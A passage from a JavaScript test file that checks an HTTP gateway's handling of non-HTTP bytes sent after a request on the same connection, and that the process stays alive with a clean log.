  if (answers[1]) t.equal(complaintOf(answers[1], 'GET'), null);
});

await t.test('what is not HTTP, behind a request, is never answered in its place', async (t) => {
  const asked = Buffer.from(`${slowDossier('application/json', 'awaited-1')}BONJOUR\r\n\r\n`);
  const { answers, rest } = await exchange(open(), asked, new AnswerReader([]), () => false);
  t.equal(rest, '');
  t.equal(answers[0]?.headers.get('x-request-id'), 'awaited-1');
  t.match(JSON.parse(answers[0]?.body ?? '{}'), { type: '/problemes/siret-inconnu', instance: 'awaited-1' });
  if (answers[1]) t.equal(complaintOf(answers[1], 'GET'), null);
});

await t.test('the process lives on, and its log tells of no bug', async (t) => {
  t.equal(gateway.process.exitCode, null);
  t.equal((await fetch(`${gateway.url}/livez`)).status, 200);
  t.notMatch(gateway.output(), /"level":(50|60)|Error|\n\s*at /);
});
